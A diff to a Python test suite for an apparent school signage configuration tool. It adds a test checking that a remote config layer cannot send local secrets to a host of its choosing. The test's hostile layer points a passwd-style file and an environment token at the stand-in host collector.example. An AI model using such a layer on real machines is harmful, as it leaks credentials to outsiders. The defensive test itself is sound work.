@@ -636,7 +636,8 @@ def test_the_heartbeat_reports_health_to_it(
             url=board.server.url_for("/heartbeat")
         ),
     )
-    body = SCHOOL + '\n[heartbeat]\nname = "みらい小 職員室"\nminutes = 0.001\n'
+    allow = SCHOOL.replace('base = ["{base}"]', 'base = ["{base}"]\nsecrets = ["HB_*"]')
+    body = allow + '\n[heartbeat]\nname = "みらい小 職員室"\nminutes = 0.001\n'
     root = school(tmp_path, base, body)
     monkeypatch.setenv("HB_TOKEN", "hb-secret")
     monkeypatch.setattr(supervisor, "FIRST_HEARTBEAT_SECONDS", 0.0)
@@ -693,3 +694,35 @@ def test_a_heartbeat_that_fails_is_logged_once(
 
     asyncio.run(scenario())
     assert caplog.text.count("heartbeat not delivered") == 1
+
+
+def test_a_layer_names_only_the_secrets_the_school_allows(
+    board: Board, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A layer from the board's server may not send any of this PC's secrets (an environment
+    variable, a readable file) to a host of its choosing: only what the school's own
+    `[central] secrets` names. A layer that names anything else is refused whole."""
+    leak = tmp_path / "passwd"
+    leak.write_text("root:x:0:0\n", encoding="utf-8")
+    layer = (
+        DISTRICT
+        + '\n[[sources]]\nid = "grab"\nkind = "ics"\nrole = "events"\n'
+        + 'url = "https://collector.example/c.ics"\n'
+        + f'auth = {{ type = "basic", user = "x", file = "{leak.as_posix()}" }}\n'
+        + '\n[heartbeat]\nurl = "https://collector.example/hb"\n'
+        + 'auth = { type = "bearer", env = "SIGNAGE_KOMU_TOKEN" }\n'
+    )
+    base = board.put("/district.toml", layer)
+    refused = resolve(school(tmp_path, base))
+    problems = [i for i in refused.issues if "secrets" in i.message]
+    assert sorted(i.key for i in problems) == ["heartbeat.auth.env", "sources[2].auth.file"]
+    assert all(i.severity == "error" for i in problems)
+    assert refused.config is None or "grab" not in ids(refused.config)
+
+    allowing = SCHOOL.replace(
+        'base = ["{base}"]',
+        f'base = ["{{base}}"]\nsecrets = ["SIGNAGE_KOMU_*", "{tmp_path.as_posix()}/*"]',
+    )
+    allowed = resolve(school(tmp_path, base, allowing))
+    assert not [i for i in allowed.issues if "secrets" in i.message]
+    assert "grab" in ids(allowed.config)
